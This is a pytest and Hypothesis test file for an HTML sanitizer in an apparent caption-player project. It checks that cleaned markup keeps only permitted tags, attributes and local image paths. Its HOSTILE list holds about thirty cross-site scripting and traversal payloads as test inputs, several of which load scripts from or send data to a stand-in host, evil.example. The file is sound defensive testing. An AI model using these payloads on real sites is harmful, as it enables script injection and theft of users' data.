"""Markup that is cleaned: what stays, and that nothing runs, fetches or leads out."""

from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from captionplayer.exercises.cleaning import clean, is_local

TAGS = (
    "abbr b big blockquote br caption cite code dd del dfn dl dt em h1 h2 h3 h4 h5 h6 i img ins "
    "kbd li mark ol p pre q s samp small span strong sub sup table tbody td tfoot th thead tr tt u "
    "ul var"
).split()
ATTRIBUTES = {"src", "alt", "lang", "dir", "start", "colspan", "rowspan"}
HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src='http://evil.example/a.png'>",
    "<img src='//evil.example/a.png'>",
    "<img src='data:image/png;base64,AAAA'>",
    "<img src='file:///etc/passwd'>",
    "<img src='ftp://evil.example/a.png'>",
    "<img src='/etc/passwd'>",
    "<img src='../../secret.png'>",
    "<img src='a/%2e%2e/../b.png'>",
    "<img src='C:\\\\secret.png'>",
    "<img src=' javascript:alert(1)'>",
    "<img src='java\tscript:alert(1)'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<svg><image href='http://evil.example'/><script>1</script></svg>",
    "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    "<style>body{background:url(http://evil.example)}</style>",
    "<p style='position:fixed;background:url(//evil.example)'>x</p>",
    "<iframe src='http://evil.example'></iframe>",
    "<object data='x'></object><embed src='x'>",
    "<form action='http://evil.example'><input type=text><button>x</button></form>",
    "<link rel=stylesheet href='//evil.example'><base href='//evil.example'>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<td background='http://evil.example/a.png' colspan='999999999'>x</td>",
    "<video poster='http://evil.example'><source src='//evil.example'></video>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<b/onclick=alert(1)>x",
    "<!--><script>alert(1)</script-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<template><script>1</script></template>",
]


class Seen(HTMLParser):
    """What another reader of markup finds in it."""

    def __init__(self, markup):
        super().__init__()
        self.tags, self.attributes = set(), []
        self.feed(markup)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes += attrs


def assert_harmless(markup):
    seen = Seen(markup)
    assert seen.tags <= set(TAGS)
    assert {name for name, _ in seen.attributes} <= ATTRIBUTES
    assert all(is_local(value) for name, value in seen.attributes if name == "src")


@pytest.mark.parametrize("markup", HOSTILE)
def test_nothing_that_runs_fetches_or_leads_out_is_left(markup):
    assert_harmless(clean(markup))
    assert "evil" not in clean(markup)


pieces = st.sampled_from(
    [*HOSTILE, *(f"<{tag}>" for tag in TAGS), "</", ">", '"', "'", "<", "&lt;"]
)


@given(st.lists(pieces | st.text(max_size=8), max_size=12).map("".join))
def test_whatever_is_given_what_comes_out_is_harmless(markup):
    assert_harmless(clean(markup))


@given(st.lists(pieces | st.text(max_size=8), max_size=12).map("".join))
def test_what_was_cleaned_is_clean(markup):
    once = clean(markup)
    assert_harmless(clean(once))


@pytest.mark.parametrize("name", ["map.png", "static/a b.png", "bilder/größe.png", "a..b.png"])
def test_a_picture_of_the_lesson_keeps_its_name(name):
    assert f'src="{name}"' in clean(f'<img src="{name}" alt="A map">')


@pytest.mark.parametrize("name", ["", "/a", "../a", "a/../../b", "a\\b", "x:y", "a\nb", "a\x00"])
def test_a_name_that_leads_elsewhere_is_not_local(name):
    assert not is_local(name)


def test_a_cell_spans_no_more_than_can_be_laid_out():
    assert 'colspan="20"' in clean('<table><tr><td colspan="9999">x</td></tr></table>')


def test_words_of_elements_that_go_stay_but_not_code():
    assert clean("<custom>Words<script>code</script></custom>") == "Words"


def test_no_element_keeps_an_attribute_that_is_not_its_own():
    assert clean('<p title="a" lang="fr"><b title="b" id="c">x</b></p>') == "<p><b>x</b></p>"
